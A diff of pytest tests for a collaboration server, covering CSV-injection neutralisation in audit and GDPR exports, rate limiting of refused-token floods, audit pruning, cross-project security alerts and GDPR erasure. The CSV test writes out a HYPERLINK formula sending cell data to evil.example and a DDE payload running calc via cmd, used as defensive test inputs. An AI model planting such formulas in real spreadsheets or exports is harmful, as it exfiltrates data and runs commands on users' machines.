@@ -222,6 +222,44 @@ async def test_audit_query_filters_and_export_json_and_csv(
         assert [e["resource"] for e in exports] == ["audit", "audit"]
 
 
+async def test_csv_exports_neutralise_formulas(server: Server, clients: Clients) -> None:
+    """A User-Agent or a comment id chosen by a client never reaches an owner's spreadsheet as
+    a formula (OWASP CSV injection): such cells start with ``'``; the JSON exports keep them."""
+    link = '=HYPERLINK("http://evil.example/?"&A1,"help")'
+    command = "=1+cmd|' /C calc'!A0"
+    with trio.fail_after(20):
+        alice = await clients.join("alice")
+        await alice.request("comment_add", {"comment": {"id": command, "text": "@SUM(1+1)"}})
+        headers = {**bearer(server, "olga", "owner"), "User-Agent": link}
+        chain = {"strategies": ["merge", "priority"]}
+        assert (await call(server, "PUT", "/api/projects/p1/strategies", chain,
+                           headers)).status_code == 200  # fmt: skip
+        owner = bearer(server, "olga", "owner")
+        audit = await call(server, "POST", "/api/collaboration/audit/export", {"format": "csv"},
+                           owner)  # fmt: skip
+        gdpr = await call(server, "POST", "/api/collaboration/gdpr/export",
+                          {"userId": "alice", "format": "csv"}, owner)  # fmt: skip
+        as_json = await call(server, "POST", "/api/collaboration/gdpr/export",
+                             {"userId": "alice"}, owner)  # fmt: skip
+    audit_rows = list(csv.DictReader(io.StringIO(audit.text)))
+    agents = {r["userAgent"] for r in audit_rows}
+    assert "'" + link in agents and link not in agents
+    gdpr_rows = list(csv.reader(io.StringIO(gdpr.text)))
+    cells = [cell for row in gdpr_rows for cell in row]
+    assert "'" + command in cells
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
+    assert as_json.json()["comments"][0]["id"] == command  # the data itself is unchanged
+
+
+def test_csv_safe_cells() -> None:
+    from crealia._http import csv_safe
+
+    for start in ("=", "+", "-", "@", "\t", "\r"):
+        assert csv_safe(start + "1") == "'" + start + "1"
+    assert [csv_safe(v) for v in ("ok", "", "a=b", -3, 2.5, None)] == ["ok", "", "a=b", -3, 2.5,
+                                                                      None]  # fmt: skip
+
+
 async def test_audit_retention_deletes_old_events(server: Server) -> None:
     server.hub.audit.record("join", user_id="old", project_id="p1")
     server.hub.audit.record("join", user_id="new", project_id="p1")
@@ -233,6 +271,114 @@ async def test_audit_retention_deletes_old_events(server: Server) -> None:
         assert await server.hub.audit.prune() == 1
         users = {e["userId"] for e in await audit_of(server)}
     assert users == {"new"}
+
+
+async def attacker_hello(nursery: trio.Nursery, server: Server, project: str) -> tuple[Any, Any]:
+    """A bad-token hello from 127.0.0.2 (another address than the users'): (reply, close)."""
+    import trio_websocket
+
+    stream = await trio.open_tcp_stream("127.0.0.1", server.ws_port, local_address="127.0.0.2")
+    ws = await trio_websocket.wrap_client_stream(nursery, stream, "127.0.0.1", "/ws")
+    client = RawClient(ws)
+    reply = await client.request("hello", {"token": "bad", "project_id": project})
+    return reply, await client.closed()
+
+
+async def test_a_refused_token_flood_is_limited_aggregated_and_bounded(
+    tmp_path: Path, nursery: trio.Nursery
+) -> None:
+    """One client floods refused tokens (REST with a 15 KB path, WebSocket hellos) from its own
+    address: past its pre-authentication burst it is refused before its token is looked at,
+    the audit log keeps about one bounded event per second and action, the refusals are all
+    counted, and users on other addresses go on unaffected."""
+    config = make_config(tmp_path / "d", preauth_rest_limit="60/20",
+                         preauth_handshake_limit="60/10")  # fmt: skip
+    long_path = "/api/projects/" + "x" * 15_000 + "/snapshot"
+    attacker = httpx.AsyncHTTPTransport(local_address="127.0.0.2")
+    async with open_server(config) as server, opened(server, nursery) as clients:
+        with trio.fail_after(30):
+            alice = await clients.join("alice")
+            started = trio.current_time()
+            statuses: list[int] = []
+            async with httpx.AsyncClient(base_url=server.http_url, transport=attacker) as http:
+                for _ in range(40):
+                    response = await http.get(
+                        long_path,
+                        headers={"Authorization": "Bearer x.y.z", "User-Agent": "u" * 5000},
+                    )
+                    statuses.append(response.status_code)
+            closes = [(await attacker_hello(nursery, server, f"v{i}"))[1] for i in range(15)]
+            ack = await alice.request("timeline_change", {"change_id": "c1", "changes": [INSERT]})
+            assert ack["type"] == "ack"  # the users' address is not limited
+            ok = await call(server, "GET", "/api/projects/p1/snapshot", None,
+                            bearer(server, "olga", "viewer"))  # fmt: skip
+            assert ok.status_code == 200
+            await server.hub.audit.flush()
+            elapsed = trio.current_time() - started
+    assert statuses.count(401) == 20 and statuses.count(429) == 20
+    assert closes.count(4401) == 10 and closes.count(4429) == 5
+    with sqlite3.connect(server.ops.path) as conn:
+        rows = [(action, data) for action, data in conn.execute(
+            "SELECT action, data FROM audit_events ORDER BY rowid")]  # fmt: skip
+    flood = [(a, json.loads(d), len(d)) for a, d in rows if json.loads(d)["ip_address"] ==
+             "127.0.0.2"]  # fmt: skip
+    refused: dict[str, int] = {}
+    for action, event, size in flood:
+        assert size <= 8192 and len(event["resource"]) <= 256
+        assert len(event["user_agent"]) <= 256
+        refused[action] = refused.get(action, 0) + event["details"]["refused"]
+    assert refused == {"token_refused": 30, "rate_limited": 25}
+    # One event per (address, action) and second, at most (one more for each query's flush).
+    assert len(flood) <= 2 * (int(elapsed) + 2), (len(flood), elapsed)
+
+
+@pytest.mark.settings(rate_limits={"rest": "5/5"})
+async def test_rest_rate_limit_refusals_are_audited_once_a_second(server: Server) -> None:
+    with trio.fail_after(20):
+        headers = bearer(server, "ed", "editor")
+        statuses = [(await call(server, "GET", "/api/collaboration/conflicts", None,
+                                headers)).status_code for _ in range(20)]  # fmt: skip
+        events = await audit_of(server, action="rate_limited")
+    assert statuses.count(429) == 15
+    assert sum(e["details"]["refused"] for e in events) == 15
+    assert 1 <= len(events) <= 3, [e["timestamp"] for e in events]
+
+
+@pytest.mark.settings(ops_max_bytes=1024**2)
+async def test_ops_database_is_pruned_oldest_first_under_its_cap(server: Server) -> None:
+    audit = server.hub.audit
+    with trio.fail_after(60):
+        for i in range(3000):
+            audit.record("edit", user_id=f"u{i}", project_id="p1", details={"pad": "x" * 900})
+        await audit.flush()
+        deleted = await audit.enforce_cap()
+        metrics = (await call(server, "GET", "/metrics")).text
+    assert deleted > 0 and audit.size_pruned == deleted and audit.size_prunes == 1
+    assert audit.db_bytes <= 1024**2
+    with sqlite3.connect(server.ops.path) as conn:
+        users = [u for (u,) in conn.execute("SELECT user_id FROM audit_events ORDER BY rowid")]
+    assert users[-1] == "u2999" and "u0" not in users  # the oldest went first
+    assert users == [f"u{i}" for i in range(3000 - len(users), 3000)]
+    assert f"crealia_ops_pruned_rows_total {float(deleted)}" in metrics
+    assert "crealia_ops_db_bytes" in metrics
+
+
+def test_audit_and_preauth_settings_are_checked(tmp_path: Path) -> None:
+    from crealia import Config, ConfigurationError
+
+    env = {
+        "CREALIA_PREAUTH_HANDSHAKE_LIMIT": "30/5",
+        "CREALIA_PREAUTH_REST_LIMIT": "off",
+        "CREALIA_AUDIT_REFUSAL_WINDOW": "2",
+        "CREALIA_OPS_MAX_BYTES": str(64 * 1024**2),
+    }
+    config = Config.from_env(env)
+    assert (config.preauth_handshake_limit, config.preauth_rest_limit) == ("30/5", "off")
+    assert (config.audit_refusal_window, config.ops_max_bytes) == (2.0, 64 * 1024**2)
+    for bad in ({"preauth_rest_limit": "lots"}, {"preauth_handshake_limit": "0/5"},
+                {"ops_max_bytes": 1000}, {"audit_refusal_window": 61}):  # fmt: skip
+        with pytest.raises((ConfigurationError, ValueError)):
+            make_config(tmp_path, **bad)
 
 
 # -- security alerts ------------------------------------------------------------------------------
@@ -328,6 +474,53 @@ async def test_bad_tokens_naming_many_projects_raise_one_alert(
     ]
 
 
+async def test_an_address_alert_is_seen_by_every_project_it_concerns(
+    tmp_path: Path, nursery: trio.Nursery
+) -> None:
+    """The issue's scenario: five bad REST calls naming no project raise the address's alert;
+    later attacks on p1 and p3 must show it to their owners (each with its own id only), and
+    every other owner sees it as server-wide, without any project's id."""
+    config = make_config(tmp_path / "d", security_alert_threshold=5)
+    forged = {"Authorization": "Bearer forged"}
+    async with open_server(config) as server, opened(server, nursery) as clients:
+        with trio.fail_after(30):
+            for _ in range(5):
+                response = await call(server, "GET", "/api/collaboration/conflicts", None, forged)
+                assert response.status_code == 401
+            assert [a.project_id for a in await server.security.open_alerts()] == [None]
+            for victim in ("p1", "p3", "p1"):
+                intruder = await clients.raw()
+                await intruder.send("hello", {"token": "bad", "project_id": victim}, ref=1)
+                assert await intruder.closed() == 4401
+            seen = {p: await open_alerts(server, p) for p in ("p1", "p2", "p3")}
+            for project, alerts in seen.items():
+                assert [a["type"] for a in alerts] == ["unauthorized_access"], project
+                assert alerts[0]["count"] == 4  # found at the 5th refusal, repeated 3 times
+            assert seen["p1"][0]["projectId"] == "p1"
+            assert seen["p3"][0]["projectId"] == "p3"
+            assert seen["p2"][0]["projectId"] is None  # server-wide
+            for project, alerts in seen.items():
+                others = {"p1", "p3"} - {project}
+                text = json.dumps(alerts)
+                assert not [p for p in others if f'"{p}"' in text], (project, text)
+            # p2 is not concerned: it may see, not resolve; p3 may, for everyone.
+            path = f"/api/collaboration/security/alerts/{seen['p1'][0]['id']}/resolve"
+            assert (
+                await call(server, "POST", path, {}, bearer(server, "olga", "owner", "p2"))
+            ).status_code == 404
+            done = await resolve(server, seen["p3"][0], "p3")
+            assert done["projectId"] == "p3" and done["resolved"] is True
+            assert await open_alerts(server, "p1") == []
+            resolved = await call(
+                server,
+                "GET",
+                "/api/collaboration/security/alerts?status=resolved",
+                None,
+                bearer(server, "olga", "owner"),
+            )
+            assert [a["projectId"] for a in resolved.json()["alerts"]] == ["p1"]
+
+
 async def test_repeated_findings_raise_one_alert_with_a_count(
     server: Server, clients: Clients
 ) -> None:
@@ -358,7 +551,8 @@ async def test_security_alerts_reach_webhooks_and_live_feed(
             pushed = (await olga.expect_type("security_alert"))["data"]
             await receiver.wait_received(1)
     assert pushed["type"] == "permission_escalation"
-    assert receiver.received == [{"alert": pushed}]
+    # The operator's webhook also hears every project the alert concerns.
+    assert receiver.received == [{"alert": {**pushed, "projects": ["p1"], "serverWide": False}}]
     assert pushed["category"] == "security"
 
 
@@ -459,6 +653,72 @@ async def test_gdpr_erasure_deletes_content_and_pseudonymizes_the_rest(
         assert event["ip_address"] == "" and event["user_agent"] == ""
     assert erasures[0]["userId"] == "olga"
     assert erasures[0]["resource"] == f"user:{pseudonym}"
+
+
+async def test_gdpr_erasure_rewrites_attribution_never_content(
+    server: Server, clients: Clients
+) -> None:
+    """The issue's scenario: erasing user "42" must not touch bob's element "42", a prop named
+    "42" nor a value "42"; bob, resuming with the epoch he had, gets the rewritten history as a
+    snapshot (never a replay of nothing over a stale document)."""
+    with trio.fail_after(30):
+        mine = await clients.join("42", role="editor")
+        bob = await clients.join("bob", role="editor")
+        epoch = bob.welcome["epoch"]
+        ours = {"op": "insert", "element_id": "42", "element_type": "clip",
+                "props": {"42": "bob's prop named 42", "title": "42", "start": 42}}  # fmt: skip
+        ack = await bob.request("timeline_change", {"change_id": "42", "changes": [ours]})
+        assert ack["type"] == "ack"
+        theirs = {"op": "insert", "element_id": "clip-of-42", "element_type": "clip",
+                  "props": {"title": "by 42"}}  # fmt: skip
+        await mine.request("timeline_change", {"change_id": "c42", "changes": [theirs]})
+        await mine.request("comment_add", {"comment": {"id": "m42", "text": "42's own words"}})
+        bobs_comment = {"id": "42", "text": "42", "element_id": "42"}
+        await bob.request("comment_add", {"comment": bobs_comment})
+        # A conflict between them, settled by a strategy: its attribution names 42.
+        stale = {"op": "set", "element_id": "clip-of-42", "prop": "title", "value": "42",
+                 "base": 1}  # fmt: skip
+        bob_moves = {"op": "set", "element_id": "clip-of-42", "prop": "title", "value": "bob's",
+                     "base": 2}  # fmt: skip
+        await bob.request("timeline_change", {"change_id": "b1", "changes": [bob_moves]})
+        await mine.request("timeline_change", {"change_id": "c43", "changes": [stale]})
+        await bob.expect_type("conflict_resolved")
+        head = (await call(server, "GET", "/api/projects/p1/snapshot", None,
+                           bearer(server, "bob", "viewer"))).json()  # fmt: skip
+        with sqlite3.connect(server.store.path) as conn:
+            bobs_before = conn.execute(
+                "SELECT seq, kind, user_id, payload, effects FROM events WHERE user_id = 'bob' "
+                "ORDER BY seq").fetchall()  # fmt: skip
+        response = await call(server, "POST", "/api/collaboration/gdpr/erase", {"userId": "42"},
+                              bearer(server, "olga", "owner"))  # fmt: skip
+        assert response.status_code == 200, response.text
+        pseudonym = response.json()["pseudonym"]
+        assert await bob.closed() == 1011
+        back = await clients.join("bob", role="editor", resume=head["seq"], epoch=epoch)
+    assert back.welcome["epoch"] != epoch
+    assert "replayed" not in back.welcome, "a rewritten history is never replayed"
+    snapshot = back.welcome["snapshot"]
+    assert snapshot["elements"]["42"] == head["elements"]["42"] == {
+        "type": "clip", "props": {"42": "bob's prop named 42", "title": "42", "start": 42}
+    }  # fmt: skip
+    assert snapshot["versions"]["42"] == head["versions"]["42"]
+    assert snapshot["elements"]["clip-of-42"] == head["elements"]["clip-of-42"]
+    with sqlite3.connect(server.store.path) as conn:
+        bobs_after = conn.execute(
+            "SELECT seq, kind, user_id, payload, effects FROM events WHERE user_id = 'bob' "
+            "ORDER BY seq").fetchall()  # fmt: skip
+        authors = {row[0] for row in conn.execute("SELECT DISTINCT user_id FROM events")}
+        change_42 = conn.execute(
+            "SELECT user_id FROM changes WHERE change_id = '42'").fetchone()  # fmt: skip
+        comments = conn.execute("SELECT comment_id, user_id, text FROM comments").fetchall()
+        conflict = json.loads(conn.execute("SELECT data FROM conflicts").fetchone()[0])
+    assert bobs_after == bobs_before, "bob's events are byte for byte what they were"
+    assert authors == {"bob", pseudonym}
+    assert change_42 == ("bob",)
+    assert comments == [("42", "bob", "42")]
+    assert {conflict["current"]["user_id"], conflict["incoming"]["user_id"]} == {"bob", pseudonym}
+    assert conflict["incoming"]["value"] == "42"  # the value 42 wrote is content: it stays
+    assert set(conflict["roles"]) <= {"bob", pseudonym}
 
 
 async def test_cross_site_websocket_attempts_are_audited_and_alerted(
